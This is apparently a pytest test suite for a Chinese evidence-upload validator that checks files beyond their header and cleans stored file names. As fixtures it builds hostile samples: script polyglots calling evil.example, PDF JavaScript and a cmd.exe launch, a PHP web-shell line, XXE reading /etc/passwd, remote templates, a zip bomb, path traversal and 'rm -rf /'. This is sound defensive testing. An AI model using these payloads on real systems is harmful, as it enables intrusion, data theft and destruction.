"""Evidence uploads checked beyond their first bytes (intake/uploads.py): real files built
here are accepted; polyglots, active content, zip tricks and wrong names/types refused with
a Chinese reason; stored display names cleaned."""

from __future__ import annotations

import io
import struct
import unicodedata
import zipfile
import zlib

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from yearwheel.web.uploads import ACCEPTED_TYPES, DOCX, JPEG, PDF, PNG, XLSX, Verdict, check_upload, safe_display_name

# --------------------------------------------------------------------------- real files


def make_pdf(
    catalog_extra: bytes = b"", extra_objects: list[bytes] = (), header: bytes = b"%PDF-1.7", comment: bytes = b""
) -> bytes:
    """A minimal, valid one-page PDF with a correct xref table."""
    content = b"BT /F1 24 Tf 72 720 Td (Yearwheel evidence) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R" + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *extra_objects,
    ]
    out = bytearray(header + b"\n%\xe2\xe3\xcf\xd3\n" + comment)
    offsets = []
    for i, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def png_chunk(ctype: bytes, data: bytes, crc: int | None = None) -> bytes:
    crc = zlib.crc32(ctype + data) & 0xFFFFFFFF if crc is None else crc
    return struct.pack(">I", len(data)) + ctype + data + struct.pack(">I", crc)


def make_png(width: int = 4, height: int = 3, extra_chunks: bytes = b"") -> bytes:
    """A real RGB PNG: signature, IHDR, IDAT (zlib, filter byte per row), IEND."""
    rows = b"".join(b"\x00" + b"".join(bytes((x * 60 % 256, y * 80 % 256, 200)) for x in range(width)) for y in range(height))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + extra_chunks
        + png_chunk(b"IDAT", zlib.compress(rows))
        + png_chunk(b"IEND", b"")
    )


def jpeg_segment(marker: int, payload: bytes) -> bytes:
    return bytes((0xFF, marker)) + struct.pack(">H", len(payload) + 2) + payload


def make_jpeg(comment: bytes = b"") -> bytes:
    """A minimal baseline JFIF: one 8x8 grey block (DC difference 0, then end-of-block)."""
    app0 = jpeg_segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
    dqt = jpeg_segment(0xDB, b"\x00" + bytes([1] * 64))
    sof0 = jpeg_segment(0xC0, b"\x08" + struct.pack(">HH", 8, 8) + b"\x01" + b"\x01\x11\x00")
    one_code = bytes([1] + [0] * 15) + b"\x00"  # a single 1-bit code for symbol 0
    dht_dc = jpeg_segment(0xC4, b"\x00" + one_code)
    dht_ac = jpeg_segment(0xC4, b"\x10" + one_code)
    sos = jpeg_segment(0xDA, b"\x01" + b"\x01\x00" + b"\x00\x3f\x00")
    com = jpeg_segment(0xFE, comment) if comment else b""
    return b"\xff\xd8" + app0 + com + dqt + sof0 + dht_dc + dht_ac + sos + b"\x3f" + b"\xff\xd9"


def make_xlsx() -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = "质量考核"
    ws.append(["区县", "得分"])
    ws.append(["朝阳区", 92.5])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


CT_DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
CT_XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
REL_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"


def content_types(
    main_type: str = CT_DOCX_MAIN, part: str = "/word/document.xml", defaults: str = "", overrides: str = "", prolog: str = ""
) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        + prolog
        + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        + defaults
        + f'<Override PartName="{part}" ContentType="{main_type}"/>'
        + overrides
        + "</Types>"
    )


def rels(*relationships: tuple[str, str, str, str]) -> str:
    body = "".join(
        f'<Relationship Id="{rid}" Type="{rtype}" Target="{target}"{mode}/>' for rid, rtype, target, mode in relationships
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>'
    )


DOCUMENT_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>2023 年度质量工作考核自查报告</w:t></w:r></w:p></w:body></w:document>"
)


def make_zip(members: dict[str, bytes | str], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, data in members.items():
            zf.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data, compress_type=compression)
    return buf.getvalue()


def docx_members(**changes: bytes | str | None) -> dict[str, bytes | str]:
    members: dict[str, bytes | str] = {
        "[Content_Types].xml": content_types(),
        "_rels/.rels": rels(("rId1", REL_OFFICE, "word/document.xml", "")),
        "word/document.xml": DOCUMENT_XML,
    }
    for name, value in changes.items():
        name = name.replace("__", "/").replace("CT", "[Content_Types].xml")
        if value is None:
            members.pop(name, None)
        else:
            members[name] = value
    return members


def make_docx(**changes: bytes | str | None) -> bytes:
    return make_zip(docx_members(**changes))


def rezip(data: bytes, add: dict[str, bytes | str] = {}, replace: dict[str, bytes | str] = {}) -> bytes:  # noqa: B006
    src = zipfile.ZipFile(io.BytesIO(data))
    members = {i.filename: src.read(i) for i in src.infolist()}
    members.update(replace)
    members.update(add)
    return make_zip(members)


def refused(v: Verdict, code: str | None = None) -> Verdict:
    assert isinstance(v, Verdict)
    assert not v.ok and v.content_type is None, v
    assert v.reason_zh and v.reason_log, v
    assert any("\u4e00" <= ch <= "\u9fff" for ch in v.reason_zh), v.reason_zh
    if code:
        assert v.code == code, v
    return v


GOOD = {
    "pdf": (make_pdf(), PDF, "自查报告.pdf"),
    "png": (make_png(), PNG, "现场照片.png"),
    "jpeg": (make_jpeg(), JPEG, "现场照片.jpg"),
    "xlsx": (make_xlsx(), XLSX, "得分表.xlsx"),
    "docx": (make_docx(), DOCX, "自查报告.docx"),
}

# --------------------------------------------------------------------------- accepted


@pytest.mark.parametrize("kind", sorted(GOOD))
def test_real_files_are_accepted(kind):
    data, ctype, name = GOOD[kind]
    v = check_upload(data, ctype, name)
    assert v.ok, v
    assert (v.content_type, v.code, v.reason_zh, v.detected) == (ctype, "accepted", "", ctype)
    assert ctype in v.reason_log


@pytest.mark.parametrize("kind", sorted(GOOD))
@pytest.mark.parametrize("declared", ["", "application/octet-stream"])
def test_an_undeclared_type_is_decided_by_content_and_extension(kind, declared):
    data, ctype, name = GOOD[kind]
    assert check_upload(data, declared, name).content_type == ctype


def test_declared_types_are_read_loosely():
    pdf, jpeg, docx = GOOD["pdf"][0], GOOD["jpeg"][0], GOOD["docx"][0]
    assert check_upload(pdf, "Application/PDF; charset=binary", "a.PDF").content_type == PDF
    assert check_upload(jpeg, "image/jpg", "a.JPEG").content_type == JPEG
    assert check_upload(jpeg, "image/pjpeg", "a.jfif").content_type == JPEG
    assert check_upload(docx, "application/zip", "a.docx").content_type == DOCX
    assert check_upload(docx, None, "a.docx").content_type == DOCX  # type: ignore[arg-type]


def test_pdf_variants_that_are_fine():
    assert check_upload(make_pdf(header=b"%PDF-2.0"), PDF, "a.pdf").ok
    assert check_upload(make_pdf(header=b"%PDF-1.4"), PDF, "a.pdf").ok
    assert check_upload(make_pdf() + b"\r\n \n\x00", PDF, "a.pdf").ok  # trailing whitespace after %%EOF
    # an OpenAction that only opens the first page (no script) is harmless
    assert check_upload(make_pdf(b" /OpenAction [3 0 R /Fit]"), PDF, "a.pdf").ok


def test_a_jpeg_with_an_appended_image_is_accepted():
    # phones append a second complete JPEG (MPF / Ultra HDR gain map) after the first EOI
    assert check_upload(make_jpeg() + make_jpeg(), JPEG, "IMG_0001.jpg").ok


def test_png_with_ancillary_chunks_is_accepted():
    text = png_chunk(b"tEXt", b"Software\x00Yearwheel") + png_chunk(b"pHYs", struct.pack(">IIB", 2835, 2835, 1))
    assert check_upload(make_png(extra_chunks=text), PNG, "a.png").ok


def test_a_docx_with_a_safe_hyperlink_and_an_image_is_accepted():
    doc_rels = rels(
        (
            "rId1",
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink",
            "https://www.gov.cn/",
            ' TargetMode="External"',
        ),
        ("rId2", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image", "media/image1.png", ""),
    )
    data = make_docx(
        **{
            "word/_rels/document.xml.rels": doc_rels,
            "word/media/image1.png": make_png(),
            "CT": content_types(defaults='<Default Extension="png" ContentType="image/png"/>'),
        }
    )
    assert check_upload(data, DOCX, "a.docx").ok


# --------------------------------------------------------------------------- PDF refused


@pytest.mark.parametrize(
    "data",
    [
        make_pdf() + b"<html><script>alert(document.cookie)</script></html>",
        make_pdf() + b"\n<HTML>\n<SCRIPT src=//evil.example/x.js></SCRIPT>",
        make_pdf(comment=b"%<html><body onload=alert(1)>\n"),
        make_pdf(extra_objects=[b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (javascript:alert(1)) >> >>"]),
        make_pdf(comment=b"%<svg/onload=alert(1)>\n"),
        make_pdf(comment=b"%<iframe src=https://evil.example>\n"),
    ],
    ids=["html-appended", "upper-case", "embedded-comment", "javascript-uri", "svg", "iframe"],
)
def test_pdf_html_polyglots_are_refused(data):
    v = refused(check_upload(data, PDF, "a.pdf"), "markup")
    assert v.reason_zh == "文件中含有网页或脚本内容，不予接收。"


def test_html_that_starts_with_the_pdf_header_is_refused():
    html = b"%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF\n"
    refused(check_upload(html, PDF, "a.pdf"), "markup")


@pytest.mark.parametrize(
    "extra",
    [
        (b" /OpenAction 6 0 R", [b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"]),
        (b" /OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>", []),  # name escapes
        (b" /Names << /JavaScript 6 0 R >>", [b"<< /Names [(x) 7 0 R] >>"]),
        (b" /OpenAction << /S /Launch /F (cmd.exe) >>", []),
        (b" /Names << /EmbeddedFiles 6 0 R >>", [b"<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream"]),
        (b" /AA << /O << /JS (app.alert\\(1\\)) >> >>", []),  # /JS without /S /JavaScript
    ],
    ids=["openaction-js", "hex-escaped", "document-js", "launch", "embedded-file", "bare-js"],
)
def test_pdf_active_content_is_refused(extra):
    catalog, objects = extra
    v = refused(check_upload(make_pdf(catalog, objects), PDF, "a.pdf"), "pdf_active")
    assert "脚本" in v.reason_zh


def test_pdf_javascript_hidden_in_a_compressed_object_stream_is_refused():
    hidden = b"6 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    packed = zlib.compress(b"6 0 " + hidden[4:])
    objstm = (
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed) + packed + b"\nendstream"
    )
    data = make_pdf(b" /OpenAction 6 0 R", [objstm])
    assert b"JavaScript" not in data
    refused(check_upload(data, PDF, "a.pdf"), "pdf_active")
    # the same object stream without a script is fine
    harmless = zlib.compress(b"6 0 << /Type /XObject >>")
    ok = make_pdf(
        b"",
        [
            b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(harmless)
            + harmless
            + b"\nendstream"
        ],
    )
    assert check_upload(ok, PDF, "a.pdf").ok


@pytest.mark.parametrize(
    "data",
    [
        b"\r\n\t " + make_pdf(),  # leading junk before the header
        b"GIF89a" + make_pdf(),
        make_pdf()[:-20],  # truncated: no %%EOF
        make_pdf().replace(b"%%EOF", b"%%EOX"),
        make_pdf() + b"trailing bytes after the end of file",
        make_pdf(header=b"%PDF-3.1"),
        b"%PDF-1.7\nstartxref\n0\n%%EOF\n",  # no object at all
    ],
    ids=["whitespace-first", "gif-first", "truncated", "no-eof", "trailer-junk", "bad-version", "no-object"],
)
def test_broken_or_padded_pdfs_are_refused(data):
    refused(check_upload(data, PDF, "a.pdf"))


# --------------------------------------------------------------------------- PNG / JPEG refused


def test_png_with_a_script_after_iend_is_refused():
    refused(check_upload(make_png() + b"<script>alert(1)</script>", PNG, "a.png"), "markup")
    v = refused(check_upload(make_png() + b"\x00\x01 trailing bytes", PNG, "a.png"), "corrupt")
    assert "after IEND" in v.reason_log


def test_png_with_php_inside_a_chunk_is_refused():
    refused(
        check_upload(make_png(extra_chunks=png_chunk(b"tEXt", b"Comment\x00<?php system($_GET[c]); ?>")), PNG, "a.png"), "markup"
    )


def test_png_with_a_bad_crc_is_refused():
    png = bytearray(make_png())
    png[-2] ^= 0xFF  # inside the IEND CRC
    v = refused(check_upload(bytes(png), PNG, "a.png"), "corrupt")
    assert "CRC" in v.reason_log
    ihdr_data_at = 8 + 8
    png = bytearray(make_png())
    png[ihdr_data_at] ^= 0x01  # the width: IHDR's CRC no longer matches
    refused(check_upload(bytes(png), PNG, "a.png"), "corrupt")


@pytest.mark.parametrize(
    "data",
    [
        b"\x89PNG\r\n\x1a\n" + png_chunk(b"tEXt", b"a\x00b") + make_png()[8:],  # IHDR not first
        make_png()[:-12],  # no IEND
        make_png()[:40],
        b"\x89PNG\r\n\x1a\n",
        make_png(extra_chunks=png_chunk(b"ABCD", b"")),  # unknown critical chunk
        b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 0, 3, 8, 2, 0, 0, 0)) + make_png()[33:],
    ],
    ids=["ihdr-not-first", "no-iend", "truncated", "signature-only", "unknown-critical", "zero-width"],
)
def test_broken_pngs_are_refused(data):
    refused(check_upload(data, PNG, "a.png"), "corrupt")


@pytest.mark.parametrize(
    "data, code",
    [
        (make_jpeg() + b"PK\x03\x04 zip appended", "corrupt"),
        (make_jpeg() + b"<script>alert(1)</script>", "markup"),
        (make_jpeg(comment=b"<html><script>alert(1)</script>"), "markup"),
        (make_jpeg()[:-2], "corrupt"),
        (make_jpeg()[:30], "corrupt"),
        (b"\xff\xd8\xff\xd9", "corrupt"),
        (b"\xff\xd8\xff" + b"\x00" * 40, "corrupt"),
    ],
    ids=["zip-after-eoi", "script-after-eoi", "script-in-comment", "no-eoi", "truncated", "no-scan", "garbage"],
)
def test_broken_or_polyglot_jpegs_are_refused(data, code):
    refused(check_upload(data, JPEG, "a.jpg"), code)


# --------------------------------------------------------------------------- docx / xlsx refused


def test_a_zip_that_is_not_ooxml_declared_as_docx_is_refused():
    data = make_zip({"readme.txt": "hello", "data/table.csv": "a,b\n1,2\n"})
    v = refused(check_upload(data, DOCX, "报告.docx"), "type_mismatch")
    assert "Word" in v.reason_zh


def test_a_docx_whose_content_types_say_xlsx_is_refused():
    data = make_docx(CT=content_types(CT_XLSX_MAIN))
    v = refused(check_upload(data, DOCX, "报告.docx"), "type_mismatch")
    assert "Excel" in v.reason_zh and "Word" in v.reason_zh


@pytest.mark.parametrize(
    "changes, code",
    [
        ({"CT": None}, "type_mismatch"),  # no [Content_Types].xml
        ({"word__document.xml": None}, "corrupt"),  # main part declared but missing
        ({"_rels__.rels": None}, "corrupt"),
        ({"_rels__.rels": rels(("rId1", REL_OFFICE, "word/other.xml", ""))}, "corrupt"),
        ({"CT": content_types(part="/word/missing.xml")}, "corrupt"),
        ({"CT": "<Types/>"}, "type_mismatch"),
        ({"CT": "not xml at all"}, "corrupt"),
        (
            {"CT": content_types("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml")},
            "type_mismatch",
        ),
    ],
    ids=[
        "no-content-types",
        "no-main-part",
        "no-root-rels",
        "rels-elsewhere",
        "override-elsewhere",
        "no-override",
        "not-xml",
        "pptx",
    ],
)
def test_incomplete_or_foreign_packages_are_refused(changes, code):
    refused(check_upload(make_docx(**changes), DOCX, "a.docx"), code)


def test_macros_are_refused():
    xlsx = make_xlsx()
    with_vba = rezip(xlsx, add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64})
    v = refused(check_upload(with_vba, XLSX, "得分表.xlsm"), "macro")
    assert "宏" in v.reason_zh
    refused(check_upload(with_vba, XLSX, "得分表.xlsx"), "macro")  # renamed back: still refused
    ct = zipfile.ZipFile(io.BytesIO(xlsx)).read("[Content_Types].xml").decode()
    xlsm_ct = ct.replace(CT_XLSX_MAIN, "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    assert xlsm_ct != ct
    refused(check_upload(rezip(xlsx, replace={"[Content_Types].xml": xlsm_ct}), XLSX, "a.xlsx"), "macro")
    docm = make_docx(
        **{
            "word/vbaProject.bin": b"\x00" * 16,
            "CT": content_types(
                overrides='<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            ),
        }
    )
    refused(check_upload(docm, DOCX, "a.docx"), "macro")
    refused(check_upload(make_docx(**{"word/activeX/activeX1.xml": "<ax/>"}), DOCX, "a.docx"), "macro")
    refused(check_upload(make_docx(**{"word/embeddings/sheet.xlsm": b"PK"}), DOCX, "a.docx"), "macro")


def test_a_zip_bomb_is_refused():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in docx_members().items():
            zf.writestr(name, data)
        with zf.open("word/media/zeros.bin", "w") as fh:
            block = bytes(1024 * 1024)
            for _ in range(100):  # 100 MB of zeros
                fh.write(block)
    bomb = buf.getvalue()
    assert len(bomb) < 200_000
    v = refused(check_upload(bomb, DOCX, "a.docx"), "zip_bomb")
    assert "过大" in v.reason_zh


def test_many_members_over_the_total_bound_are_refused():
    members = docx_members(**{f"word/media/part{i}.bin": bytes(900 * 1024) for i in range(60)})  # 54 MB, ratios < 1 MiB floor
    refused(check_upload(make_zip(members), DOCX, "a.docx"), "zip_bomb")


@pytest.mark.parametrize(
    "name",
    ["../evil", "word/../../evil.xml", "/etc/cron.d/evil", "C:/evil.xml", "word\\..\\evil", "word//document.xml", "./word/x.xml"],
)
def test_unsafe_member_paths_are_refused(name):
    members = docx_members()
    members[name] = "x"
    refused(check_upload(make_zip(members), DOCX, "a.docx"), "zip_path")


def test_case_insensitive_duplicate_members_are_refused():
    members = docx_members()
    members["WORD/Document.xml"] = DOCUMENT_XML
    refused(check_upload(make_zip(members), DOCX, "a.docx"), "zip_path")


def test_encrypted_members_are_refused():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in docx_members().items():
            zf.writestr(name, data)
        zf.getinfo("word/document.xml").flag_bits |= 0x1
    v = refused(check_upload(buf.getvalue(), DOCX, "a.docx"), "encrypted")
    assert "密码" in v.reason_zh


@pytest.mark.parametrize(
    "prolog",
    [
        '<!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',  # billion laughs
        '<!DOCTYPE Types SYSTEM "http://evil.example/x.dtd">',  # external DTD
        '<!doctype Types [<!entity xxe SYSTEM "file:///etc/passwd">]>',
    ],
)
def test_dtds_in_content_types_are_refused_before_parsing(prolog):
    refused(check_upload(make_docx(CT=content_types(prolog=prolog)), DOCX, "a.docx"), "xml_dtd")


def test_utf16_content_types_with_a_dtd_are_refused():
    ct = content_types(prolog='<!DOCTYPE Types [<!ENTITY a "x">]>').replace("UTF-8", "UTF-16")
    refused(check_upload(make_docx(CT=ct.encode("utf-16")), DOCX, "a.docx"), "xml_dtd")
    assert check_upload(make_docx(CT=content_types().replace("UTF-8", "UTF-16").encode("utf-16")), DOCX, "a.docx").ok


@pytest.mark.parametrize(
    "member, ctype",
    [
        ("word/afchunk.htm", '<Default Extension="htm" ContentType="text/html"/>'),
        ("word/afchunk.mht", '<Default Extension="mht" ContentType="message/rfc822"/>'),
        ("word/evil.js", ""),
        ("word/tool.exe", ""),
        ("word/page.dat", '<Override PartName="/word/page.dat" ContentType="application/xhtml+xml"/>'),
    ],
)
def test_html_and_script_members_are_refused(member, ctype):
    is_default = ctype.startswith("<Default")
    data = make_docx(
        **{member: "<p>hi</p>", "CT": content_types(defaults=ctype if is_default else "", overrides="" if is_default else ctype)}
    )
    refused(check_upload(data, DOCX, "a.docx"), "active_member")


def test_scripted_svg_is_refused_and_a_plain_svg_accepted():
    ct = content_types(defaults='<Default Extension="svg" ContentType="image/svg+xml"/>')
    plain = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>'
    assert check_upload(make_docx(**{"word/media/image1.svg": plain, "CT": ct}), DOCX, "a.docx").ok
    for bad in [
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><rect/></a></svg>',
    ]:
        refused(check_upload(make_docx(**{"word/media/image1.svg": bad, "CT": ct}), DOCX, "a.docx"), "active_member")


@pytest.mark.parametrize(
    "rtype, target",
    [
        ("attachedTemplate", "https://evil.example/template.dotm"),
        ("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html"),
        ("frame", "file://evil.example/share/x.html"),
        ("hyperlink", "javascript:alert(1)"),
    ],
)
def test_remote_templates_and_script_targets_are_refused(rtype, target):
    doc_rels = rels(
        ("rId9", f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{rtype}", target, ' TargetMode="External"')
    )
    data = make_docx(**{"word/_rels/document.xml.rels": doc_rels})
    refused(check_upload(data, DOCX, "a.docx"), "external")


@pytest.mark.parametrize(
    "data",
    [
        make_docx() + b"trailing",
        make_docx()[:-30],
        b"PK\x03\x04" + b"\x00" * 100,
    ],
)
def test_truncated_or_padded_zips_are_refused(data):
    refused(check_upload(data, DOCX, "a.docx"))


def test_a_damaged_member_is_refused():
    data = bytearray(make_zip(docx_members(**{"word/media/blob.bin": bytes(range(256)) * 40}), zipfile.ZIP_STORED))
    at = bytes(data).find(bytes(range(256)))
    data[at + 10] ^= 0xFF  # the stored bytes no longer match the CRC
    v = refused(check_upload(bytes(data), DOCX, "a.docx"), "corrupt")
    assert "CRC" in v.reason_log or "read" in v.reason_log


def test_legacy_office_files_are_refused():
    v = refused(check_upload(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, DOCX, "a.docx"), "legacy_office")
    assert ".docx" in v.reason_zh


# --------------------------------------------------------------------------- types and names


def test_an_exe_declared_as_pdf_is_refused():
    exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 50 + b"This program cannot be run in DOS mode."
    refused(check_upload(exe, PDF, "invoice.pdf"), "executable")
    refused(check_upload(b"#!/bin/sh\nrm -rf /\n", PDF, "a.pdf"), "executable")


def test_an_empty_file_is_refused():
    v = refused(check_upload(b"", PDF, "a.pdf"), "empty")
    assert "空" in v.reason_zh


def test_unknown_content_is_refused():
    v = refused(check_upload(b"GIF89a\x01\x00\x01\x00", "image/gif", "a.gif"), "unsupported")
    assert "仅限" in v.reason_zh
    v = refused(check_upload(b"just some text\n", PDF, "a.pdf"), "type_mismatch")
    assert v.reason_zh == "文件内容与类型不符：声明为PDF 文件，但内容不是有效的PDF 文件。"


def test_a_pdf_named_png_is_refused():
    pdf = GOOD["pdf"][0]
    v = refused(check_upload(pdf, PDF, "scan.png"), "extension_mismatch")
    assert ".png" in v.reason_zh and ".pdf" in v.reason_zh and v.detected == PDF
    refused(check_upload(pdf, PNG, "scan.png"), "type_mismatch")


def test_a_pdf_named_docx_gets_a_clear_message():
    pdf = GOOD["pdf"][0]
    v = refused(check_upload(pdf, DOCX, "报告.docx"), "type_mismatch")
    assert v.reason_zh.startswith("文件内容与类型不符")
    assert "PDF" in v.reason_zh and "Word" in v.reason_zh
    v = refused(check_upload(pdf, "application/octet-stream", "报告.docx"), "extension_mismatch")
    assert "PDF" in v.reason_zh and ".docx" in v.reason_zh


def test_names_without_or_with_a_disguised_extension_are_refused():
    pdf = GOOD["pdf"][0]
    v = refused(check_upload(pdf, PDF, "scan"), "extension_mismatch")
    assert "扩展名" in v.reason_zh
    refused(check_upload(pdf, PDF, "invoice\u202efdp.exe"), "extension_mismatch")  # looks like invoiceexe.pdf
    assert check_upload(pdf, PDF, "C:\\Users\\a\\报告.pdf").ok
    refused(check_upload(pdf, PDF, "a.pdf/evil.exe"), "extension_mismatch")
    refused(check_upload(GOOD["xlsx"][0], DOCX, "a.docx"), "type_mismatch")
    refused(check_upload(GOOD["docx"][0], XLSX, "a.xlsx"), "type_mismatch")
    refused(check_upload(GOOD["docx"][0], DOCX, "a.xlsx"), "extension_mismatch")


@pytest.mark.parametrize(
    "name, expected",
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\a\\报告.pdf", "报告.pdf"),
        ("/var/tmp/", "tmp"),
        ("..", "附件"),
        ("", "附件"),
        ("   ", "附件"),
        ("\u202e\u200b\u2066", "附件"),
        ("...hidden.pdf", "hidden.pdf"),
        ("a\tb\n c\u3000d.pdf", "a b c d.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),
        ("re\u0000po\u0007rt\u001b[31m.pdf", "report[31m.pdf"),
        ("\u200e\u200f\u2066\u2067\u2068\u2069\u202a\u202b\u202c\u202d\ufeff名.pdf", "名.pdf"),
        ("2023／2024 报告.pdf", "2023_2024 报告.pdf"),
        ("C:报告.pdf", "报告.pdf"),
    ],
)
def test_display_names(name, expected):
    assert safe_display_name(name) == expected


def test_display_names_are_nfc():
    assert safe_display_name("Cafe\u0301.pdf") == "Caf\u00e9.pdf"
    assert safe_display_name("e\u200b\u0301.pdf") == "\u00e9.pdf"  # composed once the zero-width space is gone
    assert safe_display_name("", fallback="evidence") == "evidence"


def test_long_display_names_keep_their_extension():
    name = safe_display_name("质" * 500 + ".pdf")
    assert len(name) == 120 and name.endswith(".pdf") and name.startswith("质")
    name = safe_display_name("x" * 500)
    assert name == "x" * 120
    name = safe_display_name("a" * 300 + "." + "b" * 100)  # no sensible extension: plain cut
    assert len(name) == 120


# --------------------------------------------------------------------------- fuzzing

SOME = settings(
    max_examples=300, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large]
)
PREFIXES = [b"", b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"PK\x03\x04", b"MZ", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"]
DECLARED = st.one_of(
    st.sampled_from(
        [*ACCEPTED_TYPES, "", "application/octet-stream", "text/html", "image/jpg", "application/zip", "APPLICATION/PDF; x=y"]
    ),
    st.text(max_size=40),
)
SAMPLES = [data for data, _, _ in GOOD.values()]


@st.composite
def mutated(draw):
    data = bytearray(draw(st.sampled_from(SAMPLES)))
    for _ in range(draw(st.integers(0, 6))):
        op = draw(st.sampled_from(["flip", "cut", "insert", "append"]))
        at = draw(st.integers(0, max(len(data) - 1, 0)))
        if op == "flip" and data:
            data[at] ^= draw(st.integers(1, 255))
        elif op == "cut":
            del data[at : at + draw(st.integers(1, 64))]
        elif op == "insert":
            data[at:at] = draw(st.binary(max_size=32))
        else:
            data += draw(st.binary(max_size=64))
    return bytes(data)


uploads = st.one_of(
    st.binary(max_size=2048), st.builds(lambda p, b: p + b, st.sampled_from(PREFIXES), st.binary(max_size=2048)), mutated()
)


@SOME
@given(data=uploads, declared=DECLARED, filename=st.text(max_size=60))
def test_check_upload_never_raises(data, declared, filename):
    v = check_upload(data, declared, filename)
    assert isinstance(v, Verdict)
    assert v.code != "internal", v.reason_log  # the catch-all is a safety net, never the answer
    assert v.ok == (v.content_type in ACCEPTED_TYPES)
    assert bool(v.reason_zh) != v.ok and v.reason_log


TRICKY = st.sampled_from(
    [
        "/",
        "\\",
        ".",
        " ",
        "\u202e",
        "\u202a",
        "\u2066",
        "\u2069",
        "\u200b",
        "\u200e",
        "\u200f",
        "\ufeff",
        "\x00",
        "\x1b",
        "\n",
        "\t",
        "\x7f",
        "\x85",
        "\u2028",
        "\u3000",
        "\ud800",
        "\ufffe",
        "e",
        "\u0301",
        "报",
        ":",
        "C",
        "／",
        "a.pdf",
    ]
)
NAMES = st.one_of(
    st.text(max_size=200),
    st.lists(TRICKY, max_size=40).map("".join),
    st.text(alphabet=st.characters(categories=["Cc", "Cf", "Zs", "Mn", "Lo"]), max_size=300),
)


@SOME
@given(name=NAMES)
def test_display_names_are_always_clean(name):
    out = safe_display_name(name)
    assert out and len(out) <= 120
    assert "/" not in out and "\\" not in out
    assert not out.startswith(".") and out == out.strip()
    assert "  " not in out
    assert all(unicodedata.category(ch) not in ("Cc", "Cf", "Cs", "Zl", "Zp") for ch in out), ascii(out)
    assert safe_display_name(out) == out  # idempotent
